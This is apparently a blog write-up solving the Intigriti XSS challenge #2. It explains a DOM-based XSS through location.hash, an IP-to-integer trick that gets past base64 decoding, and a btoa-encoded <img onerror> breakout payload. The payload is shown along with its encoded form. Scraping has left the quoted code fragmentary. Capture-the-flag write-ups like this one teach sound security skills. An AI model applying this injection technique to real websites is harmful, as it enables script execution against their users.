Intigriti XSS challenge #2 write-up

Hi guys,

Intigriti (Bug bounty platform) has released a nice XSS challenge at
The challenge is over, so I think I have to write something :D

Here their banner
In short, we have to exploit this vulnerable script to trigger a DOM-BasedXSS

var b64img = window.location.hash.substr(1);
var xhttp = new XMLHttpRequest();
xhttp.onreadystatechange = function() {
if (this.readyState == 4 && this.status == 200) {
  var reader = new FileReader();
  reader.onloadend = function() {
      <a href="${b64img}"alt="${atob(b64img)}">
        <img src="${reader.result}">
xhttp.responseType = 'blob';"GET", b64img, true);

Analyzing how it works:
(1) Payload put in location.hash, following this format
(2) XSS_PAYLOAD will be passed as an URI for function
(3) URL XSS_PAYLOAD must be loaded successfully with 200 status
(4) XSS_PAYLOAD must be decoded successfully with atob function, and breaking out <a> tag for trigger our malicious script

For (2) and (3), we need a remote hosting (for instance, we have a Web Server at, all requests return with 200 status, this can be done with some NGINX configurations). And our payload should begin with double slash //"GET", "//", true);

Javascript know we need to access, nice point!

For (4), our payload need contains all validcharacters for base64 decoding (atob function)
The string // contain dot "." character would break atob function, we can bypass this limit by converted IP address from string format to integer value using this script
"".split('.').reduce(function(ipInt, octet) { return (ipInt<<8) + parseInt(octet, 10)}, 0) >>> 0;

"" change to the number 589505315, this is our IP address from now

We can verify this IP address by using curl command (sorry for censoring my VPS IP address)Our payload now is "//589505315/". The next phrase is break out "<a>" tag for triggering malicious script.
<a href="${b64img}" alt="${atob(b64img)}">

We need to build our payload with btoafunction
btoa("\"><img src=x onerror=alert(document.domain) /><a ")

Result is Ij48aW1nIHNyYz14IG9uZXJyb3I9YWxlcnQoZG9jdW1lbnQuZG9tYWluKSAvPjxhIA==

When this string is decoded, "><img src=x onerror=alert(document.domain) /><a would be appended to HTML and run our malicious script.

Final exploit

A beautiful pop-up! :DNhận xét

Bài đăng phổ biến từ blog này

CVE-2019-12839: Lỗhổng thực thi mã lệnh tùy ý trên OrangeHRM CMS

[Steganography] Kỹ thuật che dấu thông tin -Phần 2

PHP Race ConditionVulnerability Example